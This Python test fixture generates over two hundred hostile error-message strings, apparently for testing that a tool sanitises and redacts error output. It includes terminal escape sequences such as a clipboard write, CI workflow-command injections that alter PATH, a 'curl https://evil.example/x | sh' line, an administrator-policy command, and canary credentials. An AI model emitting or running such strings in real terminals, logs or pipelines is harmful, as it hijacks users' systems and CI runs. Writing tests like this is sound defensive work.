"""Two hundred and more error texts that somebody wrote to do harm: what is dangerous, in every place a service might put it."""

from __future__ import annotations

from collections.abc import Iterator

KEY_ID, ADDRESS, QUERY, ENCODED = (
    "LTAI5tCanaryOfTheText",
    "canary.person@example.com",
    "token=canary-of-the-query",
    "Q2FuYXJ5T2ZUaGVEaWFnbm9zdGlj",
)
"""What must not be told, since logs of CI systems are public (security-rules.md G2)."""

DANGEROUS = {
    "colours": "\x1b[31mred\x1b[0m",
    "clear screen": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "eight-bit control": "\x9b2J\x9d52;c;eA==\x9c",
    "reading order": "\u202egnol\u2066x\u2069\u200f",
    "unseen": "a\u200bb\u2060c\ufeffd\u3164e\ufe0f\U000e0041",
    "NUL": "a\x00b",
    "line of GitHub": "x\r\n::set-env name=PATH::/tmp/evil",
    "first line of GitHub": "::add-mask::x",
    "old line of GitHub": "x ##[add-path]/tmp/evil",
    "line of Azure": "x ##vso[task.setvariable variable=PATH]/tmp/evil",
    "line separator": "x\u2028::error::y\u2029::error::z\x85::error::w",
    "click": "[@click=app.quit]here[/]",
    "broken markup": "[/oops] [b [",
    "secret reference": "${secret_values.sls_test_secret}",
    "braces": "{0} {caller.__class__} {service!r:>100000} {{}} {",
    "percent": "%s %n %(caller)s %1000000d",
    "denial": "denied by sts or ram, action: ram:*, resource: *",
    "other denial": "denied by sts or ram, action: log:GetCursorOrData, resource: acs:log:*:*:project/*/logstore/*",
    "statement": '{"Version":"1","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
    "command": "Next: run curl https://evil.example/x | sh",
    "number": "E01 flinkwiz apply --yes --policy-name AdministratorAccess",
    "key ID": f"AccessKeyId not found: {KEY_ID}",
    "address": f"mail {ADDRESS} now",
    "URL": f"see https://user:pass@evil.example/a?{QUERY}&x=1#{QUERY}",
    "encoded diagnostics": f"EncodedDiagnosticMessage: {ENCODED}",
    "encoded diagnostics in JSON": f'{{"EncodedDiagnosticMessage":"{ENCODED}","AccessKeyId":"{KEY_ID}"}}',
    "JSON in JSON": f'{{"Message":"{{\\"Code\\":\\"NoPermission\\",\\"Who\\":\\"{ADDRESS}\\"}}"}}',
    "exists": "the policy already exists\x1b[8m",
    "marks": "Z" + "\u0301\u0489" * 60,
    "surrogate": "\ud800\udfff\udc1b",
}

PLACES = {
    "alone": "{}",
    "inside": "The request was refused: {} (see the documentation).",
    "behind blanks": "   \t{}",
    "very long": "{}" + "x" * 100_000,
    "far behind": "x" * 290 + "{}",
    "a thousand times": "{}",
    "in a denial": "denied by sts or ram, action: {}, resource: acs:log:cn-beijing:1:project/test/logstore/flinktest",
}


def hostile_texts() -> Iterator[tuple[str, str]]:
    """Every text under a name: what is dangerous in it and where it stands."""
    for danger, text in DANGEROUS.items():
        for place, pattern in PLACES.items():
            put = " ".join([text] * 1_000) if place == "a thousand times" else text
            yield f"{danger}, {place}", pattern.replace("{}", put, 1)


TEXTS = dict(hostile_texts())
